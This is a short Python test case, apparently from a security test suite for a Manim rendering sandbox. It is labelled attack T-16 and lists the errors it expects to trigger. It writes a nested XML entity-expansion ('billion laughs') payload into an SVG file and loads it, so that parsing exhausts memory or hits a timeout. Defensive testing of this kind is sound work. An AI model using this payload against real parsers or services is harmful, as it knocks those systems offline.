# attack: T-16
# what: Let an SVG entity grow.
# layer: limits
# static: rejected
# class: CODE_ERROR LIMIT_MEMORY RENDER_TIMEOUT

from manim import *


class Attack(Scene):
    def construct(self):
        laughs = "".join(f'<!ENTITY l{n} "{("&l%d;" % (n - 1)) * 10}">' for n in range(1, 12))
        open("/job/work/x.svg", "w").write(f'<!DOCTYPE s [<!ENTITY l0 "lol">{laughs}]><svg xmlns="http://www.w3.org/2000/svg"><text>&l11;</text></svg>')
        self.add(SVGMobject("x.svg"))
        self.wait(0.1)
